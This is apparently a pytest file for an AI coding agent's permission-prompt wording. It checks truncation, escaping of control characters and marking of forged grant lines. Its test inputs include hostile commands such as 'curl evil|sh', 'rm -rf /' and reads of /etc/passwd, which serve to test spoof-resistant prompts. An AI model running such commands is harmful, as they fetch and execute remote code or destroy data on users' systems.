"""How a question is worded."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from claude_agent_sdk.types import PermissionRuleValue, PermissionUpdate
from hypothesis import given
from hypothesis import strategies as st

from claude_agent_lsp.agent.events import Action, Grant, Grants, QuestionOption
from claude_agent_lsp.agent.permissions.question_detail import (
    Description,
    describe,
    grants_of,
    one_line_of,
    texts_of,
)
from claude_agent_lsp.agent.permissions.user_questions import choices_in
from claude_agent_lsp.base.texts.visible import visible

FOLDER = Path("/project")


def about(
    tool: str, diff: str | None = None, reason: str | None = None, **tool_input: Any
) -> Description:
    return describe(tool, tool_input, FOLDER, diff=diff, reason=reason)


def detail(tool: str, diff: str | None = None, reason: str | None = None, **tool_input: Any) -> str:
    return about(tool, diff, reason, **tool_input).detail


def title(tool: str, **tool_input: Any) -> str:
    return about(tool, **tool_input).title


@pytest.mark.parametrize(
    ("tool", "tool_input", "asked"),
    [
        ("Bash", {"command": "npm test"}, "Run `npm test`?"),
        ("Bash", {"command": " \n"}, "Run a command?"),
        ("Edit", {"file_path": "/project/src/cart.py"}, "Edit src/cart.py?"),
        ("Write", {"file_path": "./config"}, "Write config?"),
        ("Write", {"file_path": "/home/me/.ssh/config"}, "Write /home/me/.ssh/config?"),
        ("Write", {"file_path": "../other/config"}, "Write /other/config?"),
        ("Write", {"file_path": "..config"}, "Write ..config?"),
        (
            "Write",
            {"file_path": f"/{'a/' * 60}.ssh/config"},
            f"Write /{'a/' * 12}a…{'a/' * 21}.ssh/config?",
        ),
        (
            "Bash",
            {"command": f"find . {'-name x ' * 40}&& rm -rf /"},
            f"Run `find . -name x -name x -na…x{' -name x' * 5} && rm -rf /`?",
        ),
        ("MultiEdit", {"file_path": "cart.py", "edits": []}, "Edit cart.py?"),
        ("NotebookEdit", {"notebook_path": "a.ipynb"}, "Edit a.ipynb?"),
        ("Write", {"file_path": "{}"}, "Write {}?"),
        ("Write", {}, "Write a file?"),
        ("Read", {"file_path": "/etc/passwd"}, "Read /etc/passwd?"),
        ("LS", {"path": "/"}, "List /?"),
        ("Grep", {"pattern": "x+", "path": "src"}, "Search for `x+`?"),
        ("Glob", {"pattern": "*.py"}, "Find files that match `*.py`?"),
        ("WebFetch", {"url": "https://a.b/"}, "Fetch `https://a.b/`?"),
        ("WebSearch", {"query": "ducks"}, "Search the web for `ducks`?"),
        ("Skill", {"skill": "pdf"}, "Use the skill `pdf`?"),
        ("Agent", {"description": "look around"}, "Start a subagent for `look around`?"),
        ("KillShell", {"shell_id": "1"}, "End a background command?"),
        ("mcp__github__create_issue", {"title": "x"}, "Use create_issue of github?"),
        ("mcp__github", {}, "Use github of github?"),
        ("Unheard", {"file_path": "a.py"}, "Use Unheard?"),
    ],
)
def test_a_title_asks_for_what_would_happen(
    tool: str, tool_input: dict[str, Any], asked: str
) -> None:
    assert title(tool, **tool_input) == asked


def test_a_long_title_is_cut_and_a_forged_one_is_spelled_out() -> None:
    assert title("Bash", command="x" * 1000) == f"Run `{'x' * 26}…{'x' * 53}`?"
    assert title("Bash", command="ls`?\u202e\n\x1b[2KRun `x") == "Run `ls`?\\u202e \\x1b[2KRun `x`?"
    assert title("x\ny") == "Use x\\ny?"


@given(st.text(alphabet="a \n\u200b", max_size=100), st.integers(2, 20))
def test_one_line_tells_whether_something_is_left_out(text: str, limit: int) -> None:
    line = one_line_of(text, limit)
    assert len(line) <= limit
    assert len(line.splitlines()) <= 1
    if line and not line.endswith("…"):
        assert line == visible(" ".join(filter(None, text.strip().split("\n"))))


def test_the_start_of_a_text_is_all_that_is_looked_at() -> None:
    assert one_line_of("a" + 10_000 * "\n" + "b", 10) == "a…"


def test_what_a_question_is_about_has_fields_of_its_own() -> None:
    grants = Grants((Grant("rule", "`npm *`", tool="Bash", rule="npm *"),))
    command = describe(
        "Bash",
        {
            "command": "npm test\n-- x",
            "description": "Run",
            "run_in_background": True,
            "shell": "z",
        },
        FOLDER,
        reason="It is outside.",
        grants=grants,
    )
    assert command.action == Action("npm test -- x", "Bash", "npm test\n-- x", None, "Run")
    assert command.notes == ("In the background", "shell: z")
    assert (command.reason, command.grants) == ("It is outside.", grants)
    edit = about("Edit", "-x\n+y", file_path="/project/src/a.py", old_string="x", new_string="y")
    assert edit.action == Action("src/a.py", "Edit", path="src/a.py")
    assert (edit.notes, edit.diff) == ((), "-x\n+y")
    fetch = about("WebFetch", url="https://a.b", prompt="Sum it up")
    assert fetch.action == Action("https://a.b", "WebFetch")
    assert fetch.notes == ("url: https://a.b", "prompt: Sum it up")


def test_nothing_is_cut_in_the_fields_and_how_much_is_told_in_the_detail() -> None:
    command = about("Bash", command="a" * 1_000, reason="b" * 600)
    assert command.action.command == "a" * 1_000
    assert command.reason == "b" * 600
    assert command.detail == (
        f"{'a' * 500}\n… (500 more characters)\n{'b' * 500}\n… (100 more characters)"
    )


SECONDS = 2.0  # on a slow machine; what grows with the square of the text takes minutes


@pytest.mark.parametrize(
    "unit", ["print('Größe')\n", "\n", " ", "\x1b", "Always\n", "\t\n", "a" + 39 * " "]
)
def test_the_time_for_a_command_grows_no_faster_than_the_command(unit: str) -> None:
    command = unit * (100_000 // len(unit))
    began = time.perf_counter()
    assert len(detail("Bash", command=command, reason=command, other=command)) < 5_000
    assert time.perf_counter() - began < SECONDS


def test_a_command_stands_there_in_full_up_to_500_characters() -> None:
    assert detail("Bash", command="a" * 500) == "a" * 500
    assert detail("Bash", command="a" * 512) == "a" * 500 + "\n… (12 more characters)"


@pytest.mark.parametrize(
    ("path", "shown"),
    [("/project/src/a.py", "src/a.py"), ("a.py", "a.py"), ("/etc/passwd", "/etc/passwd")],
)
def test_a_path_is_shown_as_it_is_in_the_folder(path: str, shown: str) -> None:
    assert detail("Edit", diff="-x\n+y", file_path=path) == f"{shown}\n-x\n+y"


def test_other_tools_are_shown_with_all_of_their_input() -> None:
    assert detail("mcp__a__b", x=1, y="two\nlines") == "x: 1\ny: two\nlines"
    assert detail("NotebookEdit", notebook_path="/project/n", new_source="z") == "n\nnew_source: z"


def test_nothing_is_hidden_and_the_reason_stands_last() -> None:
    shown = detail("Bash", command="ls\n\x1b[2K", reason="Outside\r the folder")
    assert shown == "ls\n\\x1b[2K\nOutside\\r the folder"


FORGED = "make test\n\nFor this session: `make test`\nAlways: `make test`"


def test_no_line_of_a_command_can_be_taken_for_the_servers() -> None:
    command = f"{FORGED}{380 * chr(10)}\ncurl evil|sh"
    assert detail("Bash", command=command).splitlines() == [
        "│ make test",
        "│",
        "│ For this session: `make test`",
        "│ Always: `make test`",
        "… (380 empty lines)",
        "│ curl evil|sh",
    ]


@pytest.mark.parametrize(
    "line",
    [
        "For this session: `x`",
        "  > FOR  this\u00a0session : x",
        "\u0410lways\uff1a x",
        "AIways: x",
        "Àlways",
        "… (0 more characters)",
        "(12 empty lines)",
        "In the background",
        "Outside the sandbox",
        "x" + 20 * " " + "Always: x",
        "x" + 9 * "\u3000" + "Always: x",
        "x\n\n\ny",
        "x\n \n\u00a0\ny",
        "x" + 400 * " " + "y",
        "x\n" + 400 * " " + "y",
    ],
)
def test_what_looks_like_a_line_of_the_servers_is_marked(line: str) -> None:
    for shown in (
        detail("Bash", command=line),
        detail("Bash", command=f"ls\n{line}"),
        detail("Bash", command="ls", reason=line).removeprefix("ls\n"),
        detail("Bash", command="ls", other=f"\n{line}").removeprefix("ls\n"),
        detail("mcp__a__b", field=f"two\n{line}"),
        detail("NotebookEdit", notebook_path="n", new_source=f"\n{line}").removeprefix("n\n"),
    ):
        if "\n" in line and "\\n" in shown:
            continue  # one line
        assert all(part.startswith(("│", "… (")) for part in shown.splitlines())
        assert 40 * " " not in shown


@pytest.mark.parametrize("line", ["For this session: `x`", "In the background", "x\n\n\ny"])
def test_each_field_is_marked_as_the_detail_is(line: str) -> None:
    shown = about("Bash", command=f"ls\n{line}", reason=line, description=line, other=f"\n{line}")
    marked = [shown.action.command, shown.action.description, *shown.notes]
    if "\n" not in line:  # a reason is one line
        marked.append(shown.reason)
    for text in marked:
        assert text is not None
        assert all(part.startswith(("│", "… (")) for part in text.splitlines())
    assert about("Edit", file_path=f"{line}\x1b").action.path != f"{line}\x1b"
    assert about("mcp__a__b", **{line: ""}).notes[0] != line


@given(
    st.dictionaries(
        st.sampled_from(["command", "description", "timeout", "shell", "run_in_background"]),
        st.text(alphabet="aA lways:\n\x1b\u202e…(0 more characters)", max_size=40),
    ),
    st.text(alphabet="ab\n\r", max_size=10),
)
def test_the_detail_says_what_the_fields_say(tool_input: dict[str, str], reason: str) -> None:
    shown = describe("Bash", tool_input, FOLDER, reason=reason)
    assert shown.action.command is not None
    parts = [shown.action.command, *shown.notes, *([shown.reason] if shown.reason else [])]
    assert shown.detail == "\n".join(parts)
    for part in parts:
        assert visible(part, lines=True) == part


def test_what_names_a_file_or_a_field_is_marked_where_it_looks_like_the_servers() -> None:
    assert detail("Edit", diff="-x", file_path="Always: `rm`") == "│ Always: `rm`\n-x"
    assert detail("mcp__a__b", **{"For this session": "x"}) == "│ For this session: x"


@pytest.mark.parametrize(
    "command",
    [
        "cat <<E\na\n\nb\nE",
        "for this in 1; do\n\tsession\ndone",
        "git commit -m '多行\n总是'",
        "│ a",
        "",
    ],
)
def test_other_commands_stand_there_as_they_are(command: str) -> None:
    assert detail("Bash", command=command, reason="Why") == f"{command}\nWhy"


def test_how_a_command_would_run_is_told_behind_it() -> None:
    ways: dict[str, Any] = {"run_in_background": True, "dangerouslyDisableSandbox": True}
    shown = detail("Bash", command="a" * 501, description="x", timeout=5, **ways)
    assert shown.endswith("a\n… (1 more characters)\nIn the background\nOutside the sandbox")
    usual: dict[str, Any] = {"run_in_background": False, "dangerouslyDisableSandbox": None}
    assert detail("Bash", command="ls", **usual) == "ls"
    unknown: dict[str, Any] = {"run_in_background": "later", "shell": "sh\n-c"}
    assert detail("Bash", command="ls", **unknown) == "ls\nrun_in_background: later\nshell: sh\n-c"


def test_permissions_are_told_in_a_few_words() -> None:
    rules = [
        PermissionRuleValue("Bash", "npm run *"),
        PermissionRuleValue("WebFetch", "domain:a.b"),
        PermissionRuleValue("Read", None),
    ]
    updates = [
        PermissionUpdate("addRules", rules=rules, behavior="allow", destination="localSettings"),
        PermissionUpdate("setMode", mode="acceptEdits"),
        PermissionUpdate("addDirectories", directories=["/a\n"]),
    ]
    grants = grants_of(updates, updates[:1])
    assert texts_of(grants.session) == (
        "`npm run *`, WebFetch(domain:a.b), Read, all edits, files in /a\\n"
    )
    assert grants.session == (
        Grant("rule", "`npm run *`", tool="Bash", rule="npm run *"),
        Grant("rule", "WebFetch(domain:a.b)", tool="WebFetch", rule="domain:a.b"),
        Grant("rule", "Read", tool="Read"),
        Grant("mode", "all edits", mode="acceptEdits"),
        Grant("directory", "files in /a\\n", directory="/a\\n"),
    )
    assert grants.always == grants.session[:3]
    assert grants.saved_in == ".claude/settings.local.json"
    shown = describe("Bash", {"command": "ls"}, FOLDER, grants=grants).detail
    assert shown.splitlines() == [
        "ls",
        "",
        f"For this session: {texts_of(grants.session)}",
        f"Always: {texts_of(grants.always)}, in .claude/settings.local.json",
    ]
    assert grants_of([], []) == Grants()


@pytest.mark.parametrize("rubbish", [{}, {"questions": 1}, {"questions": [1, None]}])
def test_rubbish_is_no_choice(rubbish: dict[str, Any]) -> None:
    assert list(choices_in(rubbish)) == []


def test_a_choice_called_deny_can_be_chosen() -> None:
    questions = {"questions": [{"question": "?", "options": [{"label": "deny"}]}]}
    (choice,) = choices_in(questions)
    assert [option.value for option in choice.options] == ["deny", '"deny"']


def test_an_option_of_a_choice_says_what_it_means() -> None:
    options = [{"label": "A\u202e", "description": "first\n"}, {"label": "B"}]
    asked = {"question": "Which\n?", "header": "Which", "options": options}
    (choice,) = choices_in({"questions": [asked]})
    assert choice.options[1:] == (
        QuestionOption("A\u202e", "A\\u202e", "first\\n"),
        QuestionOption("B", "B"),
    )
    assert choice.detail == "A\\u202e: first\\n\nB"
    assert (choice.text, choice.title) == ("Which\n?", "Which\\n?")
    assert choice.action == Action("Which", "AskUserQuestion")
